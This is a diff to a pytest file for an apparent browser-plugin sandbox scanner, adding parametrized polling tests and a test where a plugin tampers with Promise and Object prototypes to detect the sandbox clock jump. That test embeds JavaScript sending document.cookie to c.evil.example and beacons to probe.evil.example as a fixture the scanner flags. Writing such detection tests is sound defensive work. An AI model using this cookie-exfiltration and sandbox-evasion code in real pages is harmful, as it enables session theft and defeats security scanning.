@@ -155,16 +155,25 @@ def test_benign_plugin_using_its_declared_api_is_quiet(pool: BrowserPool, tmp_pa
     assert "connect-src 'self' https://api.acme.example" in result.raw["csp"]
 
 
-def test_a_poll_every_few_seconds_is_not_a_flood(pool: BrowserPool, tmp_path: Path) -> None:
+POLLS = {
+    "direct": "setInterval(function () { n += 1; ctx.api.fetch('/messages')"
+    ".then(function (r) { return r.text(); }).then(function (t) { container.textContent = n + ':' + t.length; })"
+    ".catch(function () {}); }, 5000);",
+    # The request is made in a promise job the tick queued, after the tick returned.
+    "async": "async function refresh() { n += 1; var who = await Promise.resolve('me');"
+    " var r = await ctx.api.fetch('/messages?for=' + who); container.textContent = (await r.text()).length; }"
+    " setInterval(function () { refresh().catch(function () {}); }, 5000);",
+}
+
+
+@pytest.mark.parametrize("poll", sorted(POLLS))
+def test_a_poll_every_few_seconds_is_not_a_flood(
+    pool: BrowserPool, tmp_path: Path, poll: str
+) -> None:
     """Seven hours jumped would fire a 5 s poll 5,000 times; intervals catch up a bounded
     number of ticks per jump, so an ordinary chat widget is neither CPU burn nor a flood,
     and the detonation stays well inside its time limit."""
-    body = (
-        "var n = 0; setInterval(function () { n += 1; ctx.api.fetch('/messages')"
-        ".then(function (r) { return r.text(); }).then(function (t) { container.textContent = n + ':' + t.length; })"
-        ".catch(function () {}); }, 5000);"
-    )
-    findings, result = _run(pool, _plugin(tmp_path, body))
+    findings, result = _run(pool, _plugin(tmp_path, "var n = 0; " + POLLS[poll]))
     assert result.status is StageStatus.OK
     assert [f for f in findings if f.severity >= Severity.MEDIUM] == []
     trace = json.loads(result.artifacts["trace-user.json"])
@@ -174,6 +183,25 @@ def test_a_poll_every_few_seconds_is_not_a_flood(pool: BrowserPool, tmp_path: Pa
     ]
     # Every jump still fires it (1 s, 10 s, 1 min at full rate; the long ones up to the cap).
     assert 100 < len(polls) < 600
+
+
+def test_the_clock_reads_nothing_the_page_redefined(pool: BrowserPool, tmp_path: Path) -> None:
+    """The jump answers with a promise the host awaits: a page that redefines how promises
+    are awaited (species, a thenable Object.prototype) neither sees the jump nor stops it."""
+    body = (
+        "var seen = function (what) { navigator.sendBeacon('https://probe.evil.example/' + what); };"
+        "Object.defineProperty(Promise.prototype, 'constructor', { configurable: true,"
+        " get: function () { seen('species'); return Promise; } });"
+        # Only the jump's answer has a "fired": anything else reading "then" is not the clock.
+        "Object.defineProperty(Object.prototype, 'then', { configurable: true,"
+        " get: function () { if (this && 'fired' in this) seen('then'); return undefined; } });"
+        "setTimeout(function () { fetch('https://c.evil.example/?c=' + encodeURIComponent(document.cookie)); },"
+        " 2 * 3600 * 1000);"
+    )
+    findings, result = _run(pool, _plugin(tmp_path, body))
+    assert "runtime-exfiltration" in _rules(findings)
+    trace = json.loads(result.artifacts["trace-user.json"])
+    assert not [e for e in trace["events"] if "probe.evil.example" in str(e.get("url", ""))]
 
 
 def test_a_payload_counting_interval_ticks_still_fires(pool: BrowserPool, tmp_path: Path) -> None:
